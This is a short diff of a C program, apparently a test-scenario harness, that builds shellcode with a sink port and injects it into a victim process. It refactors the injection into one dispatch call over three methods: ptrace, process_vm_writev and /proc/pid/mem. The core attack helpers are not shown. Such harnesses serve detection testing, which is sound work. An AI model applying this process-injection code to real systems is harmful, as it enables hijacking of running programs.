@@ -20,7 +20,6 @@ int main(void)
 				 .port = scn_port("SCENARIO_SINK_PORT") };
 	pid_t victim = scn_victim_pid();
 	size_t len;
-	int err;
 
 	scn_shellcode_markers(ran, done, sizeof(ran));
 	len = scn_shellcode_build(sc, &o);
@@ -28,16 +27,5 @@ int main(void)
 		fprintf(stderr, "inject: SCENARIO_VICTIM_PID not set\n");
 		return 1;
 	}
-#if defined(SCN_INJECT_PTRACE)
-	err = scn_inject_ptrace(victim, sc, len, scn_shellcode_code_len());
-#elif defined(SCN_INJECT_VM_WRITEV)
-	err = scn_inject_vm_writev(victim, sc, len);
-#else
-	err = scn_inject_procmem(victim, sc, len);
-#endif
-	if (!err)
-		err = scn_wait_exit(victim, 3000);
-	if (err)
-		fprintf(stderr, "inject: %s\n", strerror(-err));
-	return err ? 1 : 0;
+	return scn_inject_run(SCN_INJECT_METHOD, victim, sc, len, scn_shellcode_code_len()) ? 1 : 0;
 }
